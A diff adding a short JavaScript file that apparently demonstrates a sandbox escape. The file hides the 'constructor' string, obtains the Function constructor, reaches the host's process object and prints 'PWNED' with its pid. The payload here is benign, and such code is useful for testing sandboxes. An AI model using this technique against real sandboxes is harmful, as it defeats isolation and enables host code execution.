@@ -1,0 +1,10 @@
+'use strict';
+const w = ['con', 'structor'].join('');
+const t = { go: (f) => f[w] };
+t.go({});
+const fn = (x) => x;
+const m = new WeakMap();
+const key = {};
+m.set(key, t);
+const o = Date.now() > 1 ? m.get(key) : {};
+console.log('PWNED', o.go(fn)('return process')().pid);
